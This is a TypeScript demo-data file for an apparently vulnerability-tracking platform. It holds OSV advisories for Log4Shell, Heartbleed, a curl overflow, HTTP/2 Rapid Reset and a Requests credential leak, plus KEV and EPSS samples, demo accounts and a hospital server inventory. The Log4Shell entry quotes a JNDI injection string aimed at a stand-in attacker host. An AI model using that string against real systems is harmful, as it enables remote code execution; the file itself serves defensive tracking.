/**
 * The demo knowledge base: a handful of well-known vulnerabilities, written by us as OSV
 * records from public facts (affected ranges, fixed versions, CVSS vectors, KEV dates).
 * Scores are never written here: AICC computes them from the vectors. EPSS figures are an
 * illustrative snapshot, labelled with their date, not a live feed.
 */
export const DEMO_ADVISORIES = [
  {
    schema_version: '1.6.0',
    id: 'CVE-2021-44228',
    modified: '2024-01-15T00:00:00Z',
    published: '2021-12-10T00:00:00Z',
    aliases: ['GHSA-jfh8-c2jp-5v3q'],
    summary: 'Log4Shell: remote code execution through JNDI lookups in Apache Log4j 2',
    details:
      'Apache Log4j 2 evaluates JNDI lookups in logged messages and their parameters. An attacker who can get a string such as ${jndi:ldap://attacker/a} logged makes the application load and run code from a server the attacker controls.\n\nUpgrade log4j-core to 2.15.0 or later (2.12.2 for Java 7, 2.3.1 for Java 6). Later fixes (2.16.0, 2.17.0) removed message lookups entirely and closed follow-up issues.',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H' }],
    affected: [
      {
        package: { ecosystem: 'Maven', name: 'org.apache.logging.log4j:log4j-core', purl: 'pkg:maven/org.apache.logging.log4j/log4j-core' },
        ranges: [
          {
            type: 'ECOSYSTEM',
            events: [
              { introduced: '2.0-beta9' }, { fixed: '2.3.1' },
              { introduced: '2.4' }, { fixed: '2.12.2' },
              { introduced: '2.13.0' }, { fixed: '2.15.0' },
            ],
          },
        ],
      },
    ],
    references: [
      { type: 'ADVISORY', url: 'https://logging.apache.org/log4j/2.x/security.html' },
      { type: 'ADVISORY', url: 'https://nvd.nist.gov/vuln/detail/CVE-2021-44228' },
    ],
    database_specific: { cwe_ids: ['CWE-502', 'CWE-400', 'CWE-20', 'CWE-917'] },
    credits: [{ name: 'Chen Zhaojun of Alibaba Cloud Security Team', type: 'FINDER' }],
  },
  {
    schema_version: '1.6.0',
    id: 'CVE-2023-38545',
    modified: '2024-02-01T00:00:00Z',
    published: '2023-10-11T00:00:00Z',
    aliases: [],
    summary: 'curl: heap buffer overflow in the SOCKS5 proxy handshake',
    details:
      'When curl is asked to let a SOCKS5 proxy resolve a host name longer than 255 bytes, it switches to local resolution, but a slow handshake can make it copy the too-long name into a heap buffer anyway. Affects libcurl and curl 7.69.0 up to and including 8.3.0; fixed in 8.4.0.',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }],
    affected: [
      {
        package: { ecosystem: 'Debian:12', name: 'curl', purl: 'pkg:deb/debian/curl?distro=debian-12' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '7.88.1-10+deb12u4' }] }],
      },
    ],
    references: [
      { type: 'ADVISORY', url: 'https://curl.se/docs/CVE-2023-38545.html' },
      { type: 'ADVISORY', url: 'https://www.debian.org/security/2023/dsa-5523' },
    ],
    database_specific: { cwe_ids: ['CWE-787'] },
    credits: [{ name: 'Jay Satiro', type: 'FINDER' }],
  },
  {
    schema_version: '1.6.0',
    id: 'CVE-2014-0160',
    modified: '2023-06-01T00:00:00Z',
    published: '2014-04-07T00:00:00Z',
    aliases: [],
    summary: 'Heartbleed: OpenSSL TLS heartbeat read overrun leaks process memory',
    details:
      'The TLS and DTLS heartbeat extension in OpenSSL 1.0.1 through 1.0.1f does not check the payload length of a heartbeat request, so a remote peer can read up to 64 KB of process memory per request, including private keys and session data. Fixed in OpenSSL 1.0.1g.',
    severity: [
      { type: 'CVSS_V2', score: 'AV:N/AC:L/Au:N/C:P/I:N/A:N' },
      { type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N' },
    ],
    affected: [
      {
        package: { ecosystem: 'Debian:7', name: 'openssl', purl: 'pkg:deb/debian/openssl?distro=debian-7' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.0.1e-2+deb7u5' }] }],
      },
    ],
    references: [
      { type: 'ADVISORY', url: 'https://www.openssl.org/news/secadv/20140407.txt' },
      { type: 'WEB', url: 'https://heartbleed.com/' },
    ],
    database_specific: { cwe_ids: ['CWE-125'] },
    credits: [{ name: 'Neel Mehta of Google Security', type: 'FINDER' }, { name: 'Codenomicon', type: 'FINDER' }],
  },
  {
    schema_version: '1.6.0',
    id: 'CVE-2023-44487',
    modified: '2024-03-01T00:00:00Z',
    published: '2023-10-10T00:00:00Z',
    aliases: ['GO-2023-2102', 'GHSA-qppj-fm5r-hxr3'],
    summary: 'HTTP/2 Rapid Reset: request cancellation lets a client exhaust server resources',
    details:
      'An HTTP/2 client can open streams and cancel them at once with RST_STREAM, making the server do work for each stream while never counting against the concurrent-stream limit. golang.org/x/net/http2 bounds the work per connection from v0.17.0.',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }],
    affected: [
      {
        package: { ecosystem: 'Go', name: 'golang.org/x/net' },
        ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '0.17.0' }] }],
        ecosystem_specific: { imports: [{ path: 'golang.org/x/net/http2', symbols: ['Server.ServeConn'] }] },
      },
    ],
    references: [
      { type: 'ADVISORY', url: 'https://pkg.go.dev/vuln/GO-2023-2102' },
      { type: 'ARTICLE', url: 'https://www.cisa.gov/news-events/alerts/2023/10/10/http2-rapid-reset-vulnerability-cve-2023-44487' },
    ],
    database_specific: { cwe_ids: ['CWE-400'] },
  },
  {
    schema_version: '1.6.0',
    id: 'CVE-2023-32681',
    modified: '2024-01-10T00:00:00Z',
    published: '2023-05-26T00:00:00Z',
    aliases: ['GHSA-j8r2-6x86-q33q', 'PYSEC-2023-74'],
    summary: 'Requests forwards Proxy-Authorization headers to destination servers on HTTPS redirects',
    details:
      'Requests 2.3.0 up to 2.30.0 re-attach the Proxy-Authorization header when following a redirect to an HTTPS origin, leaking proxy credentials to the destination server. Fixed in 2.31.0.',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:N/A:N' }],
    affected: [
      {
        package: { ecosystem: 'PyPI', name: 'requests', purl: 'pkg:pypi/requests' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '2.3.0' }, { fixed: '2.31.0' }] }],
      },
    ],
    references: [{ type: 'ADVISORY', url: 'https://github.com/psf/requests/security/advisories/GHSA-j8r2-6x86-q33q' }],
    database_specific: { cwe_ids: ['CWE-200'] },
    credits: [{ name: 'Dennis Brinkrolf', type: 'FINDER' }, { name: 'Tobias Funke', type: 'FINDER' }],
  },
];

const kev = (cveID: string, vendorProject: string, product: string, vulnerabilityName: string, dateAdded: string, dueDate: string, ransomware: string, shortDescription: string, cwes: string[]) => ({
  cveID, vendorProject, product, vulnerabilityName, dateAdded, dueDate, knownRansomwareCampaignUse: ransomware, shortDescription,
  requiredAction: 'Apply mitigations per vendor instructions or discontinue use of the product if mitigations are unavailable.',
  notes: '', cwes,
});

export const DEMO_KEV = {
  title: 'AICC demo subset of the CISA Known Exploited Vulnerabilities Catalog',
  catalogVersion: 'demo',
  dateReleased: '2024-03-01T00:00:00.000Z',
  count: 4,
  vulnerabilities: [
    kev('CVE-2021-44228', 'Apache', 'Log4j2', 'Apache Log4j2 Remote Code Execution Vulnerability', '2021-12-10', '2021-12-24', 'Known',
      'Apache Log4j2 contains a vulnerability where JNDI features do not protect against attacker-controlled JNDI-related endpoints, allowing for remote code execution.', ['CWE-20', 'CWE-400', 'CWE-502']),
    kev('CVE-2014-0160', 'OpenSSL', 'OpenSSL', 'OpenSSL Information Disclosure Vulnerability', '2022-05-04', '2022-05-25', 'Unknown',
      'The TLS and DTLS implementations in OpenSSL do not properly handle Heartbeat Extension packets, allowing remote attackers to obtain sensitive information.', ['CWE-125']),
    kev('CVE-2023-44487', 'IETF', 'HTTP/2', 'HTTP/2 Rapid Reset Attack Vulnerability', '2023-10-10', '2023-10-31', 'Unknown',
      'HTTP/2 contains a rapid reset vulnerability that allows for a distributed denial-of-service attack (DDoS).', ['CWE-400']),
  ],
};
DEMO_KEV.count = DEMO_KEV.vulnerabilities.length;

export const DEMO_EPSS = `#model_version:v2023.03.01,score_date:2024-03-01T00:00:00+0000
cve,epss,percentile
CVE-2021-44228,0.97565,0.99996
CVE-2014-0160,0.97468,0.99966
CVE-2023-44487,0.78300,0.98200
CVE-2023-38545,0.19200,0.96100
CVE-2023-32681,0.00410,0.72100
`;

export const DEMO_PASSWORD = 'aicc-demo-password';

export const DEMO_ORGS = [
  { slug: 'aicc-ops', name: 'AICC Operations', roles: ['operator'], user: { email: 'operator@aicc.example', name: 'Olivia Operator', isAdmin: true } },
  { slug: 'frontier-lab', name: 'Frontier AI Lab', roles: ['reporter', 'model-developer'], user: { email: 'reporter@lab.example', name: 'Rahul Reporter', isAdmin: true } },
  { slug: 'open-research', name: 'Open Security Research', roles: ['reporter'], user: { email: 'researcher@research.example', name: 'Rosa Researcher', isAdmin: true } },
  { slug: 'acme-software', name: 'Acme Software', roles: ['vendor'], user: { email: 'vendor@acme.example', name: 'Vera Vendor', isAdmin: true } },
  { slug: 'valley-hospital', name: 'Valley Rural Hospital', roles: ['subscriber'], user: { email: 'subscriber@hospital.example', name: 'Sam Subscriber', isAdmin: true } },
  { slug: 'gov-evaluators', name: 'Government Evaluation Team', roles: ['evaluator'], user: { email: 'evaluator@gov.example', name: 'Eve Evaluator', isAdmin: false } },
] as const;

/**
 * The hospital's picture-archiving server as an inventory (CycloneDX 1.6): a Debian 12 curl and a Go
 * service among clean components, so the reverse match has something to find in the demo.
 */
export const DEMO_INVENTORY = {
  org: 'valley-hospital',
  name: 'radiology-pacs',
  // a rural hospital's imaging service: reached from the clinics' network, not the internet; its outage stops diagnoses
  context: { type: 'service', exposed: false, missionPrevalence: 'essential', wellBeing: 'material', owners: ['it@hospital.example'] },
  sbom: {
    bomFormat: 'CycloneDX',
    specVersion: '1.6',
    version: 1,
    metadata: { component: { type: 'application', name: 'radiology-pacs', 'bom-ref': 'pacs' } },
    components: [
      { type: 'library', 'bom-ref': 'curl', name: 'curl', version: '7.88.1-10+deb12u2', purl: 'pkg:deb/debian/curl@7.88.1-10%2Bdeb12u2?arch=amd64&distro=debian-12' },
      { type: 'library', 'bom-ref': 'x-net', name: 'golang.org/x/net', version: 'v0.10.0', purl: 'pkg:golang/golang.org/x/net@v0.10.0' },
      { type: 'library', 'bom-ref': 'x-text', name: 'golang.org/x/text', version: 'v0.14.0', purl: 'pkg:golang/golang.org/x/text@v0.14.0' },
      { type: 'library', 'bom-ref': 'zlib', name: 'zlib', version: '1:1.2.13.dfsg-1', purl: 'pkg:deb/debian/zlib@1%3A1.2.13.dfsg-1?arch=amd64&distro=debian-12' },
    ],
    dependencies: [{ ref: 'pacs', dependsOn: ['curl', 'x-net', 'x-text', 'zlib'] }],
  },
};
